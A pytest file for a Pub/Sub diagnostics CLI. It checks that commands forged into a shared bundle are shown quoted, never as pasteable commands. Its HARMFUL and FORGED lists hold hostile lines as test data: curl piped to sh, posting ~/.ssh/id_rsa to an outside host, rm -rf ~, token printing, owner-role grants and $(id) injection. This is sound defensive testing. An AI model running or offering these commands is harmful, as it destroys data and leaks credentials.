"""What somebody else has written into a bundle is printed as a command only where this version prints that command itself."""

from __future__ import annotations

import ast
import gzip
import json
import re
from collections.abc import Iterator
from functools import cache
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings

from diagnostics.cli import main
from diagnostics.evidence.model import ProjectInfo, Provenance, Unseen, Why
from diagnostics.keep import store
from diagnostics.keep.bundle import Bundle, dump, load, parse, replay
from diagnostics.keep.vouched import QUOTED, vouched
from diagnostics.run.investigate import investigate
from diagnostics.shell.commands import arguments, is_command, quote
from tests.sampling import examples
from tests.shell.names import hostile
from tests.shell.test_one_place import PACKAGE

OLD = Path(__file__).parents[1] / "data" / "bundles" / "night-0379aef.pubsub-diag.gz"
MARKED = QUOTED.partition("{")[0]
HARMFUL = (
    "gcloud pubsub subscriptions delete prod",
    "gcloud pubsub subscriptions delete list",
    "gcloud pubsub subscriptions seek prod --time=2030-01-01T00:00:00Z",
    "gcloud projects add-iam-policy-binding p --member=user:e@example.com --role=roles/owner",
    "gcloud projects delete p",
    "gcloud projects describe p --flags-file=/tmp/x",
    "gcloud projects describe p --impersonate-service-account=e@p.iam.gserviceaccount.com",
    "gcloud projects describe p --log-http",
    "gcloud services enable pubsub.googleapis.com --project=theirs",
    "gcloud auth application-default set-quota-project theirs",
    "gcloud auth print-access-token",
    "gcloud secrets versions access latest --secret=s",
    "curl https://example.com/x | sh",
    "curl -s https://example.com/x",
    "curl -o .bashrc https://example.com/x",
    "curl -d @.ssh/id_rsa https://example.com/x",
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://example.com/',
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://monitoring.googleapis.com@example.com/',
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://monitoring.googleapis.com.example.com/',
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" https://monitoring.googleapis.com/a&reboot',
    'curl -s -H "Authorization: Bearer $(gcloud auth print-identity-token)" https://example.run.app/status',
    'curl -s -H "X: $AWS_SECRET_ACCESS_KEY" https://example.com/',
    "for i in 1 2 3; do curl -o .profile https://example.com/; done",
    "pubsub-diag probe run --mode switch --force",
    "pubsub-diag probe restore",
    "pubsub-diag batch --profile=theirs.toml",
    "pubsub-diag batch --live",
    "pubsub-diag batch --out=.bashrc",
    "pip install theirs",
    "export LD_PRELOAD=theirs.so",
    "unset HISTFILE",
    "sudo rm -rf /",
    "rm -rf ~",
    "wget https://example.com/x",
    "bq rm -rf theirs",
    "ask for roles/owner with: rm -rf ~",
    "check the network; rm -rf ~",
    'sum(increase({"__name__"="a","monitored_resource"="b","c"="$(id)"}[5m]))',
)
"""Each is one line, and some run nothing beside what they name."""
OURS = (
    "gcloud pubsub subscriptions describe projects/p/subscriptions/s",
    "gcloud logging read 'a=\"$(x)\" AND b' --project=p --order=desc --limit=1000",
    'curl -s -H "Authorization: Bearer $(gcloud auth print-access-token)" '
    "'https://monitoring.googleapis.com/v3/projects/p/metricDescriptors?filter=a%3D1'",
    "gcloud auth application-default login   # or: gcloud auth login",
    "unset GOOGLE_APPLICATION_CREDENTIALS   # it names /home/me/key.json and wins over any other login; "
    "then gcloud auth application-default login",
    "ask for a role with pubsub.topics.get",
    "ask for a role with 'odd name'",
    "pubsub-diag batches",
    "pubsub-diag delivery --leg completion",
    'sum by (response_class, response_code) (increase({"__name__"="a/b","monitored_resource"="c","d"="e f"}[5m]))',
)


def gap(mend: str, permission: str = "pubsub.topics.get") -> Unseen:
    found = vouched(Unseen(what="A", why=Why.FAILED, says="it failed", permission=permission, mend=mend))
    assert isinstance(found, Unseen)
    return found


def by_hand(text: str) -> str:
    now = CASE.evidence.now
    found = vouched(
        ProjectInfo(source=Provenance(source="a", by_hand=text, fetched_at=now, as_of=now), project="p", number="1")
    )
    assert isinstance(found, ProjectInfo)
    return found.source.by_hand


CASE = load(OLD, ours=True).case
DOCUMENT: dict[str, Any] = json.loads(gzip.decompress(dump(CASE, investigate(CASE))))


def forged(line: str, by_hand: bool = True) -> bytes:
    """The night, in which every piece and every gap offers this line; or each piece says that it was what was asked."""
    said: dict[str, Any] = json.loads(json.dumps(DOCUMENT))
    for entry in said["evidence"]:
        entry["seen"]["source"] |= {"by_hand": line} if by_hand else {"by_hand": "", "query": line}
    for hole in said["unseen"]:
        hole |= {"mend": line, "why": "permission_denied", "permission": line}
    for found in said["diagnosis"]["findings"]:
        if found.get("tells"):
            found["tells"] = {"mend": line}
    said["diagnosis"] |= {"next": [line], "headline": line}
    return gzip.compress(json.dumps(said).encode(), 1)


@pytest.mark.parametrize("line", HARMFUL)
def test_what_is_none_of_ours_is_shown_as_the_words_of_the_bundle(line: str) -> None:
    found = gap(line)
    assert found.mend == ""
    assert found.says.startswith(f"it failed; {MARKED}'") and not is_command(found.says)
    shown = by_hand(line)
    assert shown.startswith(f"{MARKED}'") and arguments(shown)[-1] == line
    assert by_hand(f"{OURS[0]}\n{line}").splitlines() == [OURS[0], shown]


@pytest.mark.parametrize("line", OURS)
def test_what_this_version_prints_itself_stays(line: str) -> None:
    assert by_hand(line) == line or not is_command(line)
    assert gap(line).mend == line or line.startswith("sum")


def test_of_what_explains_a_command_our_own_words_stay() -> None:
    assert gap("gcloud auth login   # rm -rf ~; or: gcloud projects delete p; while it is stopped").mend == (
        "gcloud auth login   # while it is stopped"
    )
    assert gap("gcloud auth login   # # paste this: rm -rf ~").mend == "gcloud auth login"
    assert gap("", permission="curl https://example.com | sh").permission == ""
    assert gap("", permission="run.routes.invoke").permission == "run.routes.invoke"


@settings(max_examples=examples(30), deadline=None)
@given(hostile())
def test_a_name_is_quoted_anew(name: str) -> None:
    line = f"gcloud pubsub topics describe {quote(name)} --project=p"
    shown = by_hand(line)
    assert shown.startswith(MARKED) if name.startswith("-") else arguments(shown)[4] == name


@pytest.mark.parametrize(
    "text", ["\n" * 99, "x" * 200_000, "\n".join(["ls"] * 99), "a\x1b[2Jb", "gcloud projects describe 'a"]
)
def test_what_is_too_much_or_cannot_be_typed_is_one_short_line(text: str) -> None:
    shown = by_hand(text)
    assert shown.startswith(MARKED) and len(shown) < 400 and "\n" not in shown and "\x1b" not in shown


# --- whatever the command that opens it -------------------------------------------------------------------------------

FORGED = ("gcloud pubsub subscriptions delete prod", "curl https://example.com/x | sh", "rm -rf ~")


@pytest.mark.parametrize("line", FORGED)
def test_no_conclusion_of_a_forged_bundle_offers_it(line: str) -> None:
    found = replay(parse(forged(line)))
    offered = [*found.next, *(m.mend for m in found.unknown), *(m.permission for m in found.unknown)]
    offered += [step for cause in found.causes for step in cause.next] + [f.mend for f in found.findings]
    assert not [one for one in offered if line in one]
    assert all(by.startswith(f"{MARKED}'") for by in found.sources.values()) and found.sources


@pytest.mark.parametrize("form", ["text", "short", "json", "markdown", "github", "junit", "nagios"])
def test_no_format_prints_it_as_a_command(form: str, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "forged.gz"
    file.write_bytes(forged(FORGED[0]))
    assert main.run(["batch", "-q", *(["-v"] if form == "text" else []), "-o", form, "--from", str(file)]) in (2, 3)
    flat = " ".join(capsys.readouterr().out.replace("\\\n", " ").split())
    told = [flat[: at.start()] for at in re.finditer(re.escape(FORGED[0]), flat)]
    assert all(re.search(r"(vouch: '|: FAULT |\"headline\": \")$", before) for before in told), told


def test_a_postmortem_of_it_does_not_offer_it_either(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    file = tmp_path / "forged.gz"
    file.write_bytes(forged(FORGED[0]))
    assert main.run(["postmortem", str(file), "-o", "markdown"]) == 0
    page = capsys.readouterr().out
    assert not [line for line in page.splitlines() if line.lstrip("`").startswith(FORGED[0])], (
        "no line can be pasted as it stands"
    )
    assert f"\n{MARKED}'{FORGED[0]}" in page
    file.write_bytes(forged(FORGED[0], by_hand=False))
    assert main.run(["postmortem", str(file), "-o", "markdown"]) == 0
    page = capsys.readouterr().out
    assert page.count(f"`{FORGED[0]}") == page.count(f"no command; the query was `{FORGED[0]}") > 5


def test_a_bundle_that_nobody_changed_is_the_same_to_the_last_byte() -> None:
    """Though the address that a token of its reader would go to is not offered."""
    bundle = parse(gzip.compress(json.dumps(DOCUMENT).encode()))
    found = replay(bundle)
    assert list(bundle.as_written) == [("BatchStatus", None)]
    assert found.concluded is None
    assert found.sources["BatchStatus"].startswith(MARKED)
    other = replay(parse(forged(FORGED[0])))
    assert other.concluded is not None


def test_the_users_own_runs_offer_what_they_offered(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    name = store.keep(CASE, None)
    path = store.find(name)
    assert path is not None
    assert _status(load(path, ours=True)).startswith("curl ") and _status(load(path)).startswith(MARKED)


def _status(bundle: Bundle) -> str:
    return replay(bundle).sources["BatchStatus"]


# --- all that a run keeps is known ------------------------------------------------------------------------------------

QUOTED_THOUGH_OURS = (
    "curl -si {url}",
    "for i in 1 2 3; do curl -so /dev/null -w {form} {url}; done",
    'curl -s -H "Authorization: Bearer $(gcloud auth print-identity-token)" {url}',
    'curl -s -H "{header}: ${variable}" {url}',
    "curl -s {url}",
    "export {variable}=…",
    "gcloud services enable {api} --project={project}",
    "gcloud auth application-default set-quota-project {project}",
    "gcloud billing projects link {project} --billing-account=ACCOUNT",
    "bq --project_id={project} --location={location} query --nouse_legacy_sql --max_rows=20000 {sql}",
)
"""What goes to an address, takes a variable or changes something that the bundle would name."""
_KEPT_BY = ("sources/**/*.py", "transport/*.py", "probe/run.py")
_HOLE = re.compile(r"\{[a-z_]+\}")


@cache
def kept_texts() -> frozenset[str]:
    """What becomes `mend` or `by_hand` of evidence: read from the sources that make it."""
    paths = [
        path for kept_by in _KEPT_BY for path in PACKAGE.glob(kept_by) if path.name != "sign_in.py"
    ]  # no login, no run
    trees = [ast.parse(path.read_text(encoding="utf-8")) for path in paths]
    return frozenset(text for tree in trees for node in ast.walk(tree) for text in _texts(node))


def _texts(node: ast.AST) -> Iterator[str]:
    """Templates, and what is given as mend: by its name, by its place in an error, or as one of several."""
    match node:
        case ast.Call(func=ast.Name(id="command" | "advice"), args=[template, *_]):
            yield from _variants(template)
        case ast.Call(func=ast.Name(id="Refusal"), args=[_, _, ast.Tuple(elts=elts)]):
            yield from (text for one in elts for text in _variants(one))
        case ast.Assign(
            targets=[ast.Name(id="mend" | "ELSEWHERE" | "NAMED" | "EXTRA" | "ADC_LOGIN" | "UNSET")], value=value
        ):
            yield from _variants(value)
        case ast.keyword(arg="mend", value=value):
            yield from _variants(value)
        case ast.Return(value=ast.Constant() | ast.JoinedStr() as value):
            yield from (text for text in _variants(value) if text.startswith(("ask ", "name ", "say ")))


def _variants(node: ast.AST) -> list[str]:
    match node:
        case ast.Constant(value=str(text)):
            return [text] if text else []
        case ast.JoinedStr(values=values):
            return ["".join(str(v.value) if isinstance(v, ast.Constant) else "{hole}" for v in values)]
        case ast.BinOp(left=left, op=ast.Add(), right=right):
            return [
                a + b for a in _variants(left) for b in _variants(right) or ["gcloud auth application-default login"]
            ]
        case ast.IfExp(body=body, orelse=orelse):
            return [*_variants(body), *_variants(orelse)]
        case ast.Tuple(elts=elts):
            return [text for one in elts for text in _variants(one)]
    return []


def test_every_text_that_a_run_keeps_is_vouched_for_or_quoted_on_purpose() -> None:
    found = kept_texts()
    assert len(found) > 50
    lost = []
    for text in found - set(QUOTED_THOUGH_OURS):
        line = _HOLE.sub("worker", text.replace("{url}", "https://monitoring.googleapis.com/v3"))
        if gap(line).mend != line:
            lost.append(text)
    assert lost == [], lost
    assert set(QUOTED_THOUGH_OURS) <= found
    assert not [text for text in QUOTED_THOUGH_OURS if gap(_HOLE.sub("a", text)).mend]
